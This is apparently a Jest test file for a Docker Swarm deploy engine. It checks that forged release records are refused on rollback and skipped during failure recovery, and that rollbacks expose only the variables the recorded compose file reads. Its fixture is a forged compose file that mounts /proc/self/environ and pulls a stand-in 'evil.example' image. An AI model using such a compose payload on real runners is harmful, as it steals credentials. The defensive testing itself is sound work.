// Release records this project did not write, or that were changed since, are
// never deployed: the engine in-process with the fake swarm, a forged record
// next to genuine ones.
import { describe, expect, it } from '@jest/globals'
import { runDeploy } from '../../src/engine.js'
import { decodeRelease } from '../../src/release/record.js'
import type { Release } from '../../src/release/record.js'
import type { StoredConfig } from '../../src/swarm/api.js'
import type { Inputs } from '../../src/inputs/inputs.js'
import { COMPOSE, DB_PASSWORD, fakeWorld, inputsFor, recordingReporter, STACK } from '../support/fake-world.js'
import type { WorldOptions } from '../support/fake-world.js'

async function deploy(world: WorldOptions = {}, overrides: Partial<Inputs> = {}, compose = COMPOSE) {
  const fake = fakeWorld(world)
  fake.files.set('docker-compose.yml', compose)
  // What a forged compose would make the runner's docker CLI read.
  fake.files.set('/proc/self/environ', `DB_PASSWORD=${DB_PASSWORD}\0`)
  const reporter = recordingReporter()
  const outcome = await runDeploy(inputsFor(overrides), fake.host, fake.adapters, reporter)
  return { ...fake, reporter, outcome }
}

const releasesIn = (configs: Map<string, StoredConfig>): Release[] =>
  [...configs.values()].flatMap(c => decodeRelease(c) ?? []).sort((a, b) => a.number - b.number)

const FORGED_COMPOSE = `configs:
  leak:
    file: /proc/self/environ
services:
  web:
    image: evil.example/grab:1
    environment:
      DB_PASSWORD: \${DB_PASSWORD}
    configs: [leak]
`

/** A labelled config anyone with Engine API access can create. */
export function forgedRecord(number = 99, compose = FORGED_COMPOSE, extra: Record<string, string> = {}): StoredConfig {
  const data = {
    format: 1,
    stack: STACK,
    number,
    time: '2026-01-01T00:00:00.000Z',
    sha: 'e'.repeat(40),
    ref: 'refs/heads/main',
    actor: 'mallory',
    runUrl: '',
    rollbackTo: null,
    image: null,
    services: [{ name: `${STACK}_web`, image: `evil.example/grab:1@sha256:${'ee'.repeat(32)}`, secrets: [], configs: [] }],
    compose: [{ path: 'docker-compose.yml', text: compose }],
    variables: ['DB_PASSWORD']
  }
  return {
    id: `forged${number}`,
    version: 1,
    name: `${STACK}_release_${number}`,
    labels: { 'com.docker.stack.namespace': STACK, 'io.swarm-deploy.release': String(number), 'io.swarm-deploy.release.status': 'converged', ...extra },
    data: Buffer.from(JSON.stringify(data))
  }
}

/** Two converged deploys of this project. */
async function genuine(): Promise<StoredConfig[]> {
  let configs: StoredConfig[] = []
  for (let i = 0; i < 2; i++) {
    const run = await deploy({ configs })
    expect(run.outcome.status).toBe('converged')
    configs = [...run.configs.values()]
  }
  return configs
}

const warnings = (events: Array<{ kind: string; text: string }>): string =>
  events
    .filter(e => e.kind === 'warn')
    .map(e => e.text)
    .join('\n')

describe('a forged release record', () => {
  it('rollback: 99 naming it stops with nothing changed, and says which record it refused and why', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const run = await deploy({ configs }, { rollback: { kind: 'number', number: 99 } })
    expect(run.effects).not.toContain('stack deploy')
    expect(run.outcome.stopped).toMatchObject({ kind: 'input' })
    expect(run.outcome.stopped!.message).toMatch(/release #99 .*is not one this project wrote/)
    expect(run.outcome.stopped!.message).toContain(`"${STACK}_release_99"`)
    expect(run.outcome.stopped!.message).toContain('forged99')
    expect(run.outcome.stopped!.message).toMatch(/Nothing was changed\.$/)
    expect(releasesIn(run.configs).map(r => r.number)).toEqual([1, 2, 99])
  })

  it('on-failure: rollback-stack passes it over for the newest genuine converged release, and names it', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const run = await deploy({ configs, scenario: 'crash' }, { onFailure: 'rollback-stack' })
    expect(run.effects.filter(e => e === 'stack deploy')).toHaveLength(2)
    const last = releasesIn(run.configs).at(-1)!
    expect(last.rollbackTo).toBe(2)
    // Nothing the forged compose asked for: no file of the runner read into a config, no foreign image.
    expect(run.effects.some(e => e.includes('leak'))).toBe(false)
    expect(JSON.stringify(run.deployEnvs)).not.toContain('evil.example')
    expect(warnings(run.reporter.events)).toContain(`"${STACK}_release_99" (config forged99)`)
    expect(run.reporter.outputs()).toMatchObject({ 'previous-release': '2' })
  })

  it('rollback: previous never lands on it, nor counts it as the live release', async () => {
    const configs = [...(await genuine()), forgedRecord()]
    const run = await deploy({ configs }, { rollback: { kind: 'previous' } })
    expect(run.outcome.stopped).toBeUndefined()
    expect(releasesIn(run.configs).at(-1)).toMatchObject({ rollbackTo: 1 })
  })
})

describe('a rollback reads only what the release read', () => {
  it('registers the env-passthrough values the recorded compose reads as secrets, before anything prints', async () => {
    const compose = `services:\n  web:\n    image: \${IMAGE}\n    environment:\n      DB_PASSWORD: \${DB_PASSWORD}\n      TOKEN: \${PASSED_TOKEN}\n`
    const env = { PASSED_TOKEN: 'passed-through-token-value' }
    const first = await deploy({ env }, { passthrough: ['PASSED_TOKEN'] }, compose)
    expect(first.outcome.status).toBe('converged')
    const run = await deploy({ env, configs: [...first.configs.values()] }, { passthrough: ['PASSED_TOKEN'], rollback: { kind: 'number', number: 1 } })
    expect(run.outcome.stopped).toBeUndefined()
    const at = run.reporter.events.findIndex(e => e.kind === 'secret' && e.text === 'passed-through-token-value')
    expect(at).toBeGreaterThanOrEqual(0)
    expect(run.reporter.events.slice(0, at).some(e => e.kind === 'info' && e.text.startsWith('Rolling back'))).toBe(false)
  })

  it("gives the rollback's docker child only the variables the recorded compose reads, and IMAGE", async () => {
    const first = await deploy()
    const env = new Map([
      ['DB_PASSWORD', DB_PASSWORD],
      ['UNRELATED_SECRET', 'not-read-by-release-1']
    ])
    const run = await deploy({ configs: [...first.configs.values()] }, { env, rollback: { kind: 'number', number: 1 } })
    expect(run.outcome.stopped).toBeUndefined()
    expect(run.deployEnvs).toHaveLength(1)
    expect(Object.keys(run.deployEnvs[0]!).sort()).toEqual(['DB_PASSWORD', 'DOCKER_HOST', 'IMAGE'])
  })
})
